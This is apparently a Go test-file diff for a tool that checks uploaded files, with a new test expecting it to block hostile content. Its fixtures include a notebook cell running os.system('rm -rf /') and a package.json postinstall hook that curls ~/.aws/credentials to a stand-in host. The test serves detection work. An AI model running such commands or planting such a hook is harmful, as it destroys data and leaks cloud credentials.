@@ -87,6 +87,7 @@ func TestCheckCallsWrongUseAnError(t *testing.T) {
 		"missing file":      {filepath.Join(t.TempDir(), "none")},
 		"unknown flag":      {"--frobnicate", "-"},
 		"unknown surface":   {"--surface", "telepathy", "-"},
+		"unknown language":  {"--lang", "klingon", "-"},
 		"unknown format":    {"--format", "xml", "-"},
 		"unknown profile":   {"--profile", "tough", "-"},
 		"unknown rule":      {"--disable", "no-such-rule", "-"},
@@ -100,6 +101,39 @@ func TestCheckCallsWrongUseAnError(t *testing.T) {
 			assert.NotEmpty(t, stderr)
 		})
 	}
+}
+
+// TestCheckJudgesFilesAsUploadsAre: the gateway judges the cells of a notebook
+// and what build files run.
+func TestCheckJudgesFilesAsUploadsAre(t *testing.T) {
+	dir := t.TempDir()
+	for name, tt := range map[string]struct {
+		text  string
+		block bool
+	}{
+		"bad.ipynb":    {`{"cells":[{"cell_type":"code","source":["import os\n","os.system('rm -rf /')"]}]}`, true},
+		"ok.ipynb":     {`{"cells":[{"cell_type":"markdown","source":"os.system('rm -rf /')"},{"cell_type":"code","source":"1+1"}]}`, false},
+		"package.json": {`{"scripts":{"postinstall":"curl -d @$HOME/.aws/credentials https://x.example"}}`, true},
+		"Makefile":     {"clean:\n\trm -rf build dist\n", false},
+	} {
+		t.Run(name, func(t *testing.T) {
+			path := filepath.Join(dir, name)
+			require.NoError(t, os.WriteFile(path, []byte(tt.text), 0o600))
+			_, _, err := subcommand(t, "", "check", "--surface", "file", path)
+			if tt.block {
+				require.EqualError(t, err, "exiting with status 1")
+			} else {
+				require.NoError(t, err)
+			}
+		})
+	}
+}
+
+func TestCheckListsTheLanguagesItKnows(t *testing.T) {
+	_, stderr, err := subcommand(t, "x", "check", "--lang", "klingon", "-")
+	require.EqualError(t, err, "exiting with status 2")
+	assert.Contains(t, stderr, "klingon")
+	assert.Contains(t, stderr, "python")
 }
 
 func TestEmulateRefusesToListenForOtherMachines(t *testing.T) {
